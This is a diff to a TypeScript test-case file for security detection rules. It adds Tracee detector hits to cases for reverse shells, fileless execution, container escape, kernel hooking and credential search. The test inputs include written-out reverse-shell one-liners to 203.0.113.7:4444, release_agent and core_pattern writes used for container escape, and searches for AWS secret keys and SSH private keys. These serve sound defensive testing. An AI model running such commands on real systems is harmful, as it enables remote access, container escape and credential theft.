@@ -1,10 +1,11 @@
 /** Cases of the rules of class `threat`. */
 import type { RuleCases } from "./cases.ts";
-import { exec, falcoHit, file, network, onHost, tetragonHit } from "./events.ts";
+import { exec, falcoHit, file, kernel, network, onHost, tetragonHit, traceeHit } from "./events.ts";
 
 export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
   "reverse-shell": {
     fires: [
+      traceeHit("TRC-101"),
       exec("bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
       exec("sh -c mkfifo /tmp/f; cat /tmp/f | sh -i | nc 203.0.113.7 4444 > /tmp/f"),
       exec(`python3 -c import os,pty;os.dup2(s.fileno(),0);pty.spawn("/bin/sh")`),
@@ -25,7 +26,11 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
     stays: [exec("nc -z db 5432"), exec("socat TCP-LISTEN:80 TCP:db:80")],
   },
   "web-server-spawned-shell": {
-    fires: [exec("sh -c id", { parent: { name: "nginx" } }), falcoHit("Web Server Spawned Shell")],
+    fires: [
+      traceeHit("TRC-1016"),
+      exec("sh -c id", { parent: { name: "nginx" } }),
+      falcoHit("Web Server Spawned Shell"),
+    ],
     stays: [
       exec("nginx: worker", { parent: { name: "nginx" } }),
       exec("sh -c id", { parent: { name: "tini" } }),
@@ -43,12 +48,14 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
   },
   "fileless-exec": {
     fires: [
+      traceeHit("fileless_execution", { process: { name: "3" } }),
       exec("x", { exe: "/memfd:x" }),
       exec("x", { exe: "memfd: (deleted)" }),
       falcoHit("Fileless execution via memfd_create"),
       tetragonHit("exec-fileless", { process: { name: "x" } }),
     ],
     stays: [
+      traceeHit("fileless_execution", { process: { name: "runc:[2:INIT]" } }),
       tetragonHit("exec-fileless", { process: { name: "runc" } }),
       exec("runc init", { exe: "/memfd:runc_cloned:/proc/self/exe" }),
       exec("/usr/bin/x"),
@@ -70,6 +77,8 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
   },
   "container-escape": {
     fires: [
+      traceeHit("cgroup_release_agent"),
+      traceeHit("TRC-1031"),
       file("write", "/sys/fs/cgroup/rdma/release_agent", "sh"),
       file("write", "/proc/sys/kernel/core_pattern", "sh"),
       falcoHit("Detect release_agent File Container Escapes"),
@@ -104,8 +113,13 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
     ],
     stays: [onHost(exec("/usr/sbin/sshd -D"))],
   },
+  "kernel-hooked": {
+    fires: [traceeHit("DRV-002"), traceeHit("hooked_seq_ops_detector"), traceeHit("TRC-1020")],
+    stays: [traceeHit("TRC-1017"), onHost(kernel("load_module", "insmod"))],
+  },
   "credential-search": {
     fires: [
+      traceeHit("k8s_cert_theft"),
       exec("grep -r aws_secret_access_key /"),
       exec("find / -name id_rsa"),
       falcoHit("Find AWS Credentials"),
